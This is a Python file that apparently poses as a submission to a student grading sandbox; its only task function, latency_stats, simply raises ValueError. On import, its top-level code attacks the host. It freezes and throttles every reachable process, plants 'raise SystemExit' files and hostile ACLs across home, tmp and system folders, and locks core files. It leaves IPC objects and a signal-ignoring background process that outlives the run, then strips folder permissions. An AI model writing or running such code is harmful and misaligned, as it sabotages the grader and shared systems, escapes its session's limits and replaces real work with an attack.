# Whatever may outlive a submission: limits, priorities and signals of every process with a number, modes, times,
# attributes, locks, queues and files of every folder that can be reached.
import ctypes, fcntl, os, resource, signal, socket, struct

libc = ctypes.CDLL(None, use_errno=True)
numbers = [p for p in [os.getppid(), *range(1, 40), *(int(n) for n in os.listdir("/proc") if n.isdigit())] if p not in (0, os.getpid())] if os.access("/proc", os.R_OK) else [os.getppid()]
for pid in numbers:
    for limit in (resource.RLIMIT_FSIZE, resource.RLIMIT_AS, resource.RLIMIT_NOFILE, resource.RLIMIT_NPROC, resource.RLIMIT_CPU):
        try: resource.prlimit(pid, limit, (2000, 2000))
        except (OSError, ValueError): pass
    for change in (lambda: os.setpriority(os.PRIO_PROCESS, pid, 19), lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)),
                   lambda: os.sched_setaffinity(pid, {0}), lambda: libc.syscall(251, 1, pid, 3 << 13), lambda: os.kill(pid, signal.SIGSTOP)):
        try: change()
        except OSError: pass
    for name, text in (("oom_score_adj", "1000"), ("timerslack_ns", "4000000000"), ("coredump_filter", "0"), ("autogroup", "19"), ("sched", "0"), ("clear_refs", "1")):
        try: open(f"/proc/{pid}/{name}", "w").write(text)
        except OSError: pass
acl = struct.pack("<I", 2) + b"".join(struct.pack("<HHI", t, p, 0xFFFFFFFF) for t, p in ((1, 0), (4, 0), (0x20, 0)))
for folder in (".", "..", "/home/student", "/home", "/tmp", "/dev/shm", "/dev/pts", "/dev", "/run/server", "/", "/usr", "/dev/null", os.__file__):
    for change in (lambda: os.setxattr(folder, "system.posix_acl_default", acl), lambda: os.setxattr(folder, "user.left", b"1"),
                   lambda: os.utime(folder, (1, 1)), lambda: os.utime(folder), lambda: open(f"{folder}/planted.py", "w").write("raise SystemExit")):
        try: change()
        except OSError: pass
for made in (lambda: libc.shmget(4711, 4096, 0o1666), lambda: libc.msgget(4711, 0o1666), lambda: libc.semget(4711, 1, 0o1666), lambda: libc.mq_open(b"/left", 0o102, 0o666, None)):
    made()
for path in (os.__file__, "/dev/null", "/usr/bin/env"):
    try: fcntl.flock(os.open(path, os.O_RDONLY), fcntl.LOCK_EX | fcntl.LOCK_NB)
    except OSError: pass
try: socket.socket(socket.AF_UNIX).bind("\0left")
except OSError: pass
if os.fork() == 0:
    os.setsid()
    for number in range(1, 65):
        try: signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError): pass
    import time
    time.sleep(600)
for folder in (".", "..", "/home/student", "/tmp", "/dev/shm"):
    try: os.chmod(folder, 0)
    except OSError: pass


def latency_stats(samples_us, batch_size):
    raise ValueError
